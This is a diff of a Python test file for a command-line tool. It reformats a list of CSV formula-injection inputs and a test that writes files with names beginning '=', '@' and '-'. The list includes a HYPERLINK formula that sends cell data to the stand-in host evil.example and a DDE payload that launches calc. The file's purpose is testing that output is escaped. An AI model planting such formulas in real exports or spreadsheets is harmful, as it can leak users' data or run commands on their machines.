@@ -27,11 +27,33 @@ from tests.sweep_plans import plan_file
 from tests.workers_here import WorkersHere
 
 HOSTILE = (
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\u200b=1",
-    "＝1", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", 'a";=1', "a;=1",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\ufeff=1",
+    "\u200b=1",
+    "＝1",
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    'a";=1',
+    "a;=1",
     "a; \t-x",
-    "a\n=1", 'a"\n=1', "a\t@x", "-", "-354 to 1,880", "--1", "-1.5.2", "+", "-e5", "\x00=1",
-)  # fmt: skip
+    "a\n=1",
+    'a"\n=1',
+    "a\t@x",
+    "-",
+    "-354 to 1,880",
+    "--1",
+    "-1.5.2",
+    "+",
+    "-e5",
+    "\x00=1",
+)
 NUMBERS = ("-1.5", "+3", "-1e-05", "0", "-.5", "1.", "12e3")
 PLAIN = ("leap", "a-b", "a=b", "", "'x", "x@y", "1-2", "é=", "leap+subsidy", "a, =b")
 
@@ -178,22 +200,36 @@ def test_commands_write_so_whatever_people_and_groups_are_called(
         rows = [[f"=id{row}", GROUPS[row % 4], 20 + row % 50] for row in range(60)]
         csv.writer(file).writerows([["who", "group", "age"], *rows])
     world = {
-        "extends": "town", "name": "=1+1",
+        "extends": "town",
+        "name": "=1+1",
         "population": {
-            "people": None, "source": "file", "file": "=people.csv",
+            "people": None,
+            "source": "file",
+            "file": "=people.csv",
             "columns": {"id": "who", "culture": "group", "age": "age"},
         },
         "culture": {"groups": {group: {} for group in GROUPS}},
         "horizon": {"weeks": 4, "burn_in_weeks": 4},
-    }  # fmt: skip
+    }
     (tmp_path / "@world.yaml").write_text(json.dumps(world))
     (tmp_path / "-arm.yaml").write_text(json.dumps({"strategies": ["leap"]}))
     out = tmp_path / "results"
     for command in (
         ("run", tmp_path / "@world.yaml", "--by", "culture", "--no-figures", "--out", out / "ran"),
-        ("compare", tmp_path / "@world.yaml", "--strategy", tmp_path / "-arm.yaml", "--seeds", "2",
-         "--workers", "1", "--no-figures", "--out", out / "compared"),
-    ):  # fmt: skip
+        (
+            "compare",
+            tmp_path / "@world.yaml",
+            "--strategy",
+            tmp_path / "-arm.yaml",
+            "--seeds",
+            "2",
+            "--workers",
+            "1",
+            "--no-figures",
+            "--out",
+            out / "compared",
+        ),
+    ):
         said = helpseek(*command, "--quiet")
         assert said.code == 0, said.err
     plan = plan_file(tmp_path, levers={"policy": {"=1+1": [], "@b": ["leap"]}})
